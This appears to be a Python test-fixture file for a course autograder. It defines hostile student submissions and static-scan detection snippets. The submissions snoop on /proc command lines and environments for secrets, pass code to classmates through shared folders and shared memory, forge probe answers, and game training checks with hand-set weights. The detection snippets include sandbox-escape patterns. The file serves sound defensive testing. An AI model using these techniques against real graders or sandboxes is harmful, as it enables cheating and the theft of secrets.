             must_fail=frozenset({"test_repr_shows_data_and_grad"}),
             why="the worker's loop answers from its own copy of the probe table: a rebound table "
                 "(reached through __subclasses__ and __globals__, which Python does not audit) answers nothing"),
        Case("memory_in_many_processes", "m3",
             patches=[at_function_start("nn", "def zero_grad(self):", MEMORY_IN_MANY_PROCESSES)],
             must_fail=frozenset({"test_zero_grad_resets_every_parameter"}),
             limits={"memory_mb": 512, "probe_timeout_s": 8}, flags=frozenset({"process_spawn", "raw_fd_io"}),
             why="issue 19: 8 x 96 MB, each under the 512 MB a process may have: one limit for all"),
        Case("answers_with_a_15_mb_frame", "m1",
             patches=[at_function_start("engine", "def __neg__(self):", HUGE_ANSWER)],
             must_fail=neg_fails, may_fail=random_graphs, flags=frozenset({"raw_fd_io"}),
             why="issue 19: refused from its header; decoded it cost the grader gigabytes"),
        Case("replaces_a_probe", "m1",
             patches=[at_engine_end(REPLACE_A_PROBE)],
             flags=frozenset({"kit_import", "patch_modules"}),
             why="class 1 in miniature: the kit's modules are not in the worker's sys.modules, so the "
                 "registry is not found by name; the scan flags the attempt"),
    ]


# -- attacks on a whole batch: the working directory, classmates, secrets -------------------
# Graded through `micrograde batch` (tests/test_hostile.py), not one submission at a time.

# Class 3. A student folder named like the kit, in the folder an instructor runs
# `micrograde batch .` from. A sound grader never imports it: its children are started so
# that the working directory is not on their import path. `__MARK__` is the evidence file.
KIT_SHADOW = """
import os
with open("__MARK__", "a") as _f:
    _f.write(f"imported as uid {os.getuid()}\\n")
"""
KIT_SHADOW_FILES = {"micrograde/__init__.py": KIT_SHADOW, "micrograde/__main__.py": KIT_SHADOW,
                    "pytest.py": KIT_SHADOW, "micrograde/cli/__init__.py": KIT_SHADOW}

# Classes 2 and 7. Looks for the batch's secrets wherever a process could read them: every
# command line and environment in /proc, and the argument files they name. It prints only
# what mentions "seed" or the batch's folder (`__TOKEN__`), so the evidence fits the
# captured output, and always prints how many processes it could see. A sound grader: the
# worker sees only its own processes, and no secret is on any command line.
SNOOP_SECRETS = """
import os as _os
_seen, _found = 0, []
for _pid in _os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    _seen += 1
    for _what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _text = _f.read()
        except Exception:  # OSError, or the worker's refusal to open /proc
            continue
        for _arg in _text.split(b"\\0"):
            if _arg.startswith(b"@"):
                try:
                    with open(_arg[1:], "rb") as _f:
                        _text += b"\\0" + _f.read()
                except OSError:
                    pass
        if b"seed" in _text.lower() or b"__TOKEN__" in _text:
            _found.append(f"{_pid}/{_what}: {_text[:300]!r}")
print(f"snooped {_seen} processes")
for _line in _found:
    print("SECRET", _line)
"""

# Class 2. Alice leaves a package for a classmate graded after her in every place two
# workers might share: each world-writable folder of the machine (read from the mount
# table, and the usual ones), and a SysV shared-memory segment with a known key. Bob's
# __neg__ is broken; if he finds Alice's package he uses it, and his neg check passes.
# A sound grader: Bob finds nothing, and nothing of Alice's outlives her worker.
# Every folder both ends look in: the usual shared ones and every mount point.
HANDOFF_FOLDERS = """
_folders = {"/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run", "/var/lock"}
try:
    with open("/proc/self/mountinfo") as _f:
        _folders |= {_line.split()[4] for _line in _f}
except Exception:  # OSError, or the worker's refusal to open /proc
    pass
"""

HANDOFF_DROP = """
import ctypes as _ct, os as _os
_package = b"def neg(self):\\n    return self * -1\\n"
""" + HANDOFF_FOLDERS + """for _folder in sorted(_folders):
    try:
        with open(_os.path.join(_folder, "__TOKEN__.py"), "wb") as _f:
            _f.write(_package)
    except OSError:
        pass
try:  # ctypes is refused in the worker: the segment is only tried
    _libc = _ct.CDLL(None, use_errno=True)
    _id = _libc.shmget(__SHM_KEY__, 4096, 0o1666)          # IPC_CREAT | 0666
    if _id >= 0:
        _libc.shmat.restype = _ct.c_void_p
        _addr = _libc.shmat(_id, None, 0)
        if _addr not in (None, _ct.c_void_p(-1).value):
            _ct.memmove(_addr, _package, len(_package))
except Exception:
    pass
"""

HANDOFF_PICKUP = """
import ctypes as _ct, os as _os
_found = None
""" + HANDOFF_FOLDERS + """for _folder in sorted(_folders):
    try:
        with open(_os.path.join(_folder, "__TOKEN__.py")) as _f:
            _found = (_folder, _f.read())
            break
    except OSError:
        pass
if _found is None:
    try:  # ctypes is refused in the worker: the segment is only tried
        _libc = _ct.CDLL(None, use_errno=True)
        _id = _libc.shmget(__SHM_KEY__, 4096, 0)
        if _id >= 0:
            _libc.shmat.restype = _ct.c_void_p
            _addr = _libc.shmat(_id, None, 0)
            if _addr not in (None, _ct.c_void_p(-1).value):
                _found = ("shm", _ct.string_at(_addr, 40).split(b"\\0")[0].decode())
    except Exception:
        pass
print(f"pickup: {_found[0] if _found else 'nothing'}")
if _found:
    _ns = {}
    exec(_found[1], _ns)
    Value.__neg__ = _ns["neg"]
"""

ENGINE_END = "        for node in reversed(order):\n            node._backward()\n"
BROKEN_NEG = ("engine", "out = Value(-self.data, (self,), \"neg\")", "out = Value(self.data, (self,), \"neg\")")


def at_engine_end(code: str):
    """A patch that runs `code` at import of engine.py, once Value is defined."""
    return ("engine", ENGINE_END, ENGINE_END + "\n\n" + textwrap.dedent(code).strip("\n") + "\n")

# -- integrity findings: what the static scan must flag ------------------------------------
# (rule, code, why). A sound grader reports `rule` for `code`, read statically (never run),
# with its file and line, however the construct is spelled: imports renamed, names
# computed from pieces, reached through getattr, __dict__, __builtins__ or strings.
INTEGRITY_SNIPPETS = [
    ("frame_introspection", "import sys\nframe = sys._getframe(1)", "the probe's locals are on the caller's frame"),
    ("frame_introspection", "import inspect as i\nfor f in i.stack():\n    pass", "inspect, renamed"),
    ("frame_introspection", "def f(e):\n    return e.__traceback__.tb_frame.f_back.f_locals", "frames via a traceback"),
    ("frame_introspection", "import sys\ngrab = getattr(sys, '_get' + 'frame')", "name split in two"),
    ("frame_introspection", "from sys import _getframe as g", "from-import under another name"),
    ("frame_introspection", "from sys import *\nf = _getframe(0)", "star import"),
    ("patch_modules", "import sys\nm = sys\nmods = m.modules", "the module renamed by assignment"),
    ("gc_walk", "import gc\nfor o in gc.get_objects():\n    pass", "every live object: the protocol's included"),
    ("gc_walk", "from gc import get_referrers", "from-import"),
    ("ctypes", "import ctypes\nctypes.memmove(0, 0, 0)", "raw memory"),
    ("ctypes", "from ctypes import pythonapi", "from-import"),
    ("proc_filesystem", "cmd = open('/proc/1/cmdline').read()", "another process's command line"),
    ("proc_filesystem", "pid = 7\npath = f'/proc/{pid}/environ'", "an f-string"),
    ("proc_filesystem", "import os\nparent = os.getppid()", "finding the grader"),
    ("raw_fd_io", "import os\nos.write(1, b'{}')", "writing to the protocol's descriptor"),
    ("raw_fd_io", "import os as o\no.dup2(3, 1)", "renamed os"),
    ("raw_fd_io", "pipe = open(3, 'wb')", "open() of a descriptor number"),
    ("raw_fd_io", "import sys\nrequest = sys.stdin.readline()", "stealing the probe requests"),
    ("patch_modules", "import sys\nsys.modules['micrograde.probes.registry'].PROBES.clear()", "sys.modules"),
    ("patch_modules", "import builtins\nbuiltins.abs = lambda x: 0.0", "builtins"),
    ("patch_modules", "import math\nmath.isclose = lambda *a, **k: True", "the stdlib, patched"),
    ("patch_modules", "import random\nsetattr(random, 'seed', print)", "patched through setattr"),
    ("kit_import", "import micrograde.trusted.mlp", "the grader's own arithmetic"),
    ("kit_import", "from _pytest import runner", "pytest internals"),
    ("kit_import", "import hypothesis", "hypothesis"),
    ("kit_import", "name = 'micro' + 'grade.probes'", "the kit's name, assembled"),
    ("process_spawn", "import subprocess\nsubprocess.run(['id'])", "subprocess"),
    ("process_spawn", "import os\nos.system('id')", "os.system"),
    ("process_spawn", "import os\npid = os.fork()", "fork"),
    ("network", "import socket\ns = socket.socket()", "socket"),
    ("network", "from urllib.request import urlopen", "urllib"),
    ("threads", "import threading\nthreading.Thread(target=print).start()", "a thread"),
    ("signals", "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)", "ignoring the grader's signals"),
    ("signals", "import os\nos.kill(1, 9)", "os.kill"),
    ("outside_files", "text = open('/work/main/reference/micrograd/engine.py').read()", "the solution by path"),
    ("outside_files", "from pathlib import Path\nsrc = Path(__file__).parent / '..' / '..' / 'alice'", "a classmate's folder"),
    ("outside_files", "import os\nos.chdir('..')", "chdir"),
    ("dynamic_import", "m = __import__('o' + 's')", "__import__"),
    ("dynamic_import", "import importlib\nm = importlib.import_module('json')", "importlib"),
    ("dynamic_import", "from importlib.util import spec_from_file_location", "importlib.util"),
    ("dynamic_code", "exec('x = 1')", "exec"),
    ("dynamic_code", "f = eval", "eval passed around"),
    ("dynamic_code", "import base64\ncode = base64.b64decode('eD0x')", "decoding a payload"),
    ("dynamic_code", "import codecs\nsrc = codecs.decode('vzcbeg bf', 'rot13')", "rot13"),
    ("dynamic_code", "import marshal\nmarshal.loads(b'')", "marshal"),
    ("computed_attribute", "def reach(obj, name):\n    return getattr(obj, name)", "getattr by a computed name"),
    ("computed_attribute", "def put(obj, name):\n    setattr(obj, name, 1)", "setattr by a computed name"),
    ("computed_attribute", "import sys\ndef f(k):\n    return sys.__dict__[k]", "__dict__ by a computed key"),
    ("computed_attribute", "from functools import reduce\nreduce(getattr, ['a', 'b'], object)", "getattr as a value"),
    ("computed_attribute", "g = globals()", "the module namespace"),
    ("computed_attribute", "n = bytes([95, 103]).decode()\nv = object.__getattribute__(n, n)", "object.__getattribute__"),
    ("dunder_walk", "subs = ().__class__.__bases__[0].__subclasses__()", "the classic sandbox escape"),
    ("computed_attribute", "v = 1\nx = '{0.__class__.__init__.__globals__}'.format(v)", "str.format reads attributes"),
    ("frame_introspection", "def f(tb):\n    return '{0.tb_frame.f_back}'.format(tb)", "a format field reads frames"),
    ("computed_attribute", "import string\nobj, _ = string.Formatter().get_field('0.x', (print,), {})",
     "Formatter.get_field is getattr"),
    ("computed_attribute", "n = 'tb' + chr(95) + 'frame'\ns = ('{0.' + n + '}').format(1)", "a format string built at run time"),
    ("dynamic_code", "import timeit\ntimeit.timeit('x = 1', number=1)", "timeit runs a string as code"),
    ("dynamic_code", "import doctest\ndoctest.run_docstring_examples(print, {})", "doctest runs docstrings"),
    ("dynamic_code", "import typing\ndef f(x: 'int'):\n    pass\nh = typing.get_type_hints(f)", "annotations evaluated"),
    ("frame_introspection", "import pdb\npdb.set_trace()", "a debugger hands out frames"),
    ("dunder_walk", "def f():\n    pass\ng = f.__globals__['__builtins__']", "__globals__"),
    ("dunder_walk", "b = __builtins__", "__builtins__ by name"),
    ("unscannable", "import sys\nx = " + " + ".join(["sys"] * 20000),
     "too deep for the scan to parse; a worker with a raised recursion limit might run it"),
]

# The empty template whose package, at import, swaps two probes for its own answers (the
# worker-takeover class of attack in miniature). Whether or not the swap works, a sound
# grader flags it: statically (sys.modules, the kit's module named) and, if the forged
# answers pass, as a contradiction (every M1 function is a stub, yet M1 checks passed).
FORGE_PROBES_FROM_STUBS = """

import sys as _s
_reg = _s.modules.get("micrograde.probes.registry")
if _reg is not None:
    _reg.PROBES["engine.construct"] = lambda data: {"data": float(data), "grad": 0.0}
    _reg.PROBES["engine.repr"] = lambda data, grad: f"Value(data={data}, grad={grad})"
"""

# Issue 12, attack 8: weights hand-fitted offline to the M4 function, with a backward()
# that does not work. When the task was one fixed function, 0.5*tanh(2*x0) - 0.3*x1, the
# model "learned" without a single useful gradient step. A sound grader chooses the function
# and the starting weights from the seed and sets every parameter's .data before training.
OLD_M4_FUNCTION = "0.5 * tanh(2 * x0) - 0.3 * x1"
# MLP(2, [6, 1]) in the contract's order (per neuron: weights, then bias): hidden neuron 0
# computes tanh(2 x0), neuron 1 tanh(0.1 x1) ~ 0.1 x1; the output mixes them 0.5 and -3.
HAND_FIT = [2.0, 0.0, 0.0, 0.0, 0.1, 0.0] + [0.0] * 12 + [0.5, -3.0, 0.0, 0.0, 0.0, 0.0, 0.0]
HAND_SET_WEIGHTS = f"""
        if nin == 2 and list(nouts) == [6, 1]:
            for _p, _v in zip(self.parameters(), {HAND_FIT!r}):
                _p.data = _v
"""
BROKEN_BACKWARD = """
self.grad = 1.0
return  # nothing reaches the parameters
"""


def hand_set_weights_case() -> Case:
    return Case("hand_set_weights_with_broken_backward", "m4",
                patches=[("nn", "            for i in range(len(nouts))\n        ]\n",
                          "            for i in range(len(nouts))\n        ]\n" + HAND_SET_WEIGHTS.strip("\n") + "\n"),
                         at_function_start("engine", "def backward(self):", BROKEN_BACKWARD)],
                must_fail=BROKEN_BACKWARD_FAILS, limits={"probe_timeout_s": 10},  # plotting, on a busy machine
                why="the grader sets the start weights and picks the function from the seed: no "
                    "learning points without working gradients")

# Issue 19, class 3: a train() that finds its gradients by finite differences of the
# model's forward pass, with a backward() that does nothing. Judged by outcomes only, it
# earned "exact SGD steps" and "reaches MSE < 0.01" (+8 over the honest score). A sound
# grader ties training points to backward(): train() gets a backward() of the grader's
# (gradients the grader chose), and learning counts only as steps of -lr x what the
# submission's own backward() computed. It must score no more than honest code with the
# same broken backward().
FINITE_DIFFERENCE_TRAIN = """
params = list(model.parameters())
def _loss_now():
    total = 0.0
    for _x, _y in zip(xs, ys):
        _out = model(_x)
        _out = _out[0] if isinstance(_out, (list, tuple)) else _out
        total += (_out.data - _y) ** 2
    return total / len(xs)
history = []
for _ in range(epochs):
    base = _loss_now()
    history.append(base)
    grads = []
    for _p in params:
        _old = _p.data
        _p.data = _old + 1e-7
        grads.append((_loss_now() - base) / 1e-7)
        _p.data = _old
    for _p, _g in zip(params, grads):
        _p.data -= lr * _g
return history
"""
TRAIN_SIGNATURE = "def train(model, xs, ys, epochs=100, lr=0.05, optimizer=None, loss_fn=mse_loss):"
# Checks honest code with a broken backward() fails too; FINITE_DIFFERENCE_TRAIN may fail no fewer.
BROKEN_BACKWARD_FAILS = frozenset({"test_your_training_reaches_mse_below_0_01",
                                   "test_your_mlp_trained_by_the_graders_loop_converges",
                                   "test_mse_is_the_mean_of_squared_differences"})


def finite_difference_train_case() -> Case:
    return Case("finite_difference_train_with_broken_backward", "m4",
                patches=[at_function_start("train", TRAIN_SIGNATURE, FINITE_DIFFERENCE_TRAIN, indent=4),
                         at_function_start("engine", "def backward(self):", BROKEN_BACKWARD)],
                must_fail=BROKEN_BACKWARD_FAILS | {"test_train_history_is_the_loss_before_each_step",
                                                   "test_train_takes_exact_sgd_steps"},
                limits={"run_timeout_s": 240, "probe_timeout_s": 60},
                why="training points need backward(): steps are checked against the gradients the grader's "
                    "backward() set, and learning must step by what the submission's backward() computed")


def honest_train_with_broken_backward_case() -> Case:
    return Case("honest_train_with_broken_backward", "m4",
                patches=[at_function_start("engine", "def backward(self):", BROKEN_BACKWARD)],
                must_fail=BROKEN_BACKWARD_FAILS, limits={"probe_timeout_s": 10},  # plotting, on a busy machine
                why="the baseline of the finite-difference attack: a broken backward() costs the checks that "
                    "need its gradients, not train()'s exact steps (one bug, one blame)")


# Class 9. Upload names chosen to land on a classmate's gradebook row: the same name in
# another case, as a zip and as a folder, and a name shaped like a renamed entry. A sound
# grader gives each entry its own row, named from that entry alone (batch/discover.py),
# and keeps the name as handed in (the gradebook's `source` column).
COLLIDING_UPLOADS = ("ALICE.zip", "Alice", "alice")
